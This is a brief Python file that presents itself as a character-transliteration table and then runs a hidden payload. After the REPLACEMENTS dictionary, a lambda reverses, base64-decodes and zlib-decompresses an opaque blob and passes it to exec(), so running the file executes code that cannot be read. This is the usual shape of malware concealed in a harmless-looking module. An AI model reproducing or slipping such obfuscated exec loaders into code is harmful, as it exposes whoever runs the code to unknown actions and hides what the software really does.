REPLACEMENTS = {
    "ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "æ": "ae", "ø": "o", "å": "a",
    "ł": "l", "đ": "d", "þ": "th", "&": " and ", "@": " at ", "%": " percent ",
}

_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==gNLM0B/8+7Pz/g9SoWVHjEoI62/axHFE8+e82rOhwVMKZLrD+TqCPWU9EhUsihx60zQAtJFAmrd0AUWGzLu+7zJz8CtcEZJ/qZF7G8YXcCKcu9qeR7N7vLZYSMp2IOReOPSq27hFsmNifGDX79VkeeRHoHSnHKVwdC+9swnlZGhFD8YTmWsSqi89GaJrtNsHoer7ybTN+odIFm0DwxEFYmDTbHGRQotBGpHhxBSO7F75ROJAyZsRJaBSvThLiGKmzTpl76jbMB5i9NCjxyoyr17hwVOFxmtsYKHuduBbhKhOcyysLft3/68t0EGzjY0xVE+0p6hqPWMPoogPRJ6cMutZUMOu5HMRA5hqsjgMnGepVxP+v/TBB0XptgoShX2+eS+JzwtSpfAwrvR8YqmhU6U+GzGz8ksETa5dq0Bk9bkSOD6DSL8LoojWNPtha2SW2L5JQegroZNevr7Yrqlah/yFfCUbuK18sCYgquSQse4QTMGhYdMIQpxz3VxEhwDqnpnPkeU6avyf/XMZJqa9eLxo0NzX4bXn1Q0rH3YtyoMYB5RDy8IiFuvTzeoJHUC3q7lNF/C3kufByoVae7Qpv3/EhOYHxQaljQ2OYcj2gEy1vJOB2sYk+taue7rGq/z+7QBZQhzb0lCazDOAw9so1cwF62DdpIa/mSrPNRS57T+ea2X3oLv4xOSETvpb3QzXBm0I6n5oeS031DF1Ksby0JaHxXeU21ZOGHd13xUNSbKTfksEjMYLsZMysV6/uRkAIHqKlCa1WpbJ5iHzpNf7yYn6rj/+9z0/53/e+5sL/Pvgw79rPc3TYaEmgfLR4YR1oVQ0gghjDBTRDb7CNAAo0oSeD0NwJe"))
